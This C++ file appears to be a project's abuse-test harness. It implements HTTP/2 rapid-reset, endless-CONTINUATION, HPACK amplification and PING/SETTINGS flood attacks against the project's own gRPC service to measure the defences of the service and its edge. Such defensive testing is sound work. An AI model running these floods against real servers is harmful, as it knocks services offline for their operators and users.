// Of whoever speaks HTTP/2 as no library does. Debian's gRPC 1.51 has no defence: what it
// costs directly is bounded here alone, by how much is sent, and how fast.
#include <string>
#include <utility>

#include "tests/abuse/attack.h"

namespace taqvim::abuse {
namespace {

using testing::RawHttp2;

constexpr char kGetCaller[] = "/taqvim.v1.AccessService/GetCaller";
constexpr int kAtOnce = 100;
// What one frame stands for a thousand of.
constexpr int kFewAtOnce = 10;
// Directly, that others call while what may be sent lasts.
constexpr absl::Duration kPause = absl::Milliseconds(5);

// Sends so many at once, again and again, as `send` does one; through the edge at full
// speed.
template <class Send>
void Flood(Attacker& attacker, int at_once, Send send, Line::Begin begin = nullptr) {
  Target& target = attacker.target;
  Line line(attacker, std::move(begin));
  for (bool first = true; first || target.GoesOn(at_once); first = false) {
    RawHttp2& connection = line.Open();
    connection.Hold();
    for (int i = 0; i < at_once; ++i) send(connection);
    connection.Release();
    target.Count("sent", at_once);
    if (first) target.Begun();
    if (target.door() == Door::kDirect) target.AwaitOver(kPause);
  }
}

void ResetAtOnce(Attacker& attacker) {
  Flood(attacker, kAtOnce,
        [](RawHttp2& connection) { connection.Reset(connection.Begin(kGetCaller)); });
}

void Ping(Attacker& attacker) {
  Flood(attacker, kAtOnce, [](RawHttp2& connection) {
    connection.SendFrame(RawHttp2::kPing, RawHttp2::kNoFlag, 0, "12345678");
    connection.SendFrame(RawHttp2::kSettings, RawHttp2::kNoFlag, 0, "");
  });
}

// Headers of one call that do not end: what each connection begins with, and goes on
// with, until it is closed.
void SendHeadersWithoutEnd(Attacker& attacker, int at_once, const std::string& begin,
                           const std::string& more) {
  constexpr int kStream = 1;
  const auto send = [&more](RawHttp2& connection) {
    connection.SendFrame(RawHttp2::kContinuation, RawHttp2::kNoFlag, kStream, more);
  };
  Flood(attacker, at_once, send, [&begin](RawHttp2& connection) {
    connection.SendFrame(RawHttp2::kHeaders, RawHttp2::kNoFlag, kStream, begin);
  });
}

// One header of a byte in each frame.
void Continue(Attacker& attacker) {
  SendHeadersWithoutEnd(attacker, kAtOnce, RawHttp2::Block(kGetCaller), std::string("\0\1x\1x", 5));
}

// A header of 4,000 bytes, put into the table (RFC 7541, 6.2.1), and then a thousand times
// in each frame the byte that stands for it.
void Refer(Attacker& attacker) {
  const std::string indexed = "\x40\x01x\x7f\xa1\x1e" + std::string(4000, 'x');
  SendHeadersWithoutEnd(attacker, kFewAtOnce, RawHttp2::Block(kGetCaller) + indexed,
                        std::string(1000, '\xbe'));
}

}  // namespace

std::vector<Attack> AttacksOnHttp2() {
  // Connections are closed as soon as somebody has had enough of them.
  const std::vector<std::string> taken = {"sent", "closed"};
  return {
      {.name = "rapid-reset",
       .about = "calls that are begun and reset at once",
       .needs_edge = true,
       .most_direct = 100'000,
       .direct = taken,
       .edge = taken,
       .run = ResetAtOnce},
      {.name = "continuation",
       .about = "headers without end, a byte in each frame",
       .needs_edge = true,
       .most_direct = 500'000,
       .direct = taken,
       .edge = taken,
       .run = Continue},
      {.name = "hpack",
       .about = "bytes that stand for headers of 4,000 each, without end",
       .needs_edge = true,
       .most_direct = 5'000,
       .direct = taken,
       .edge = taken,
       .run = Refer},
      {.name = "pings",
       .about = "pings and settings, at full speed",
       .needs_edge = true,
       .most_direct = 500'000,
       .direct = taken,
       .edge = taken,
       .run = Ping},
  };
}

}  // namespace taqvim::abuse
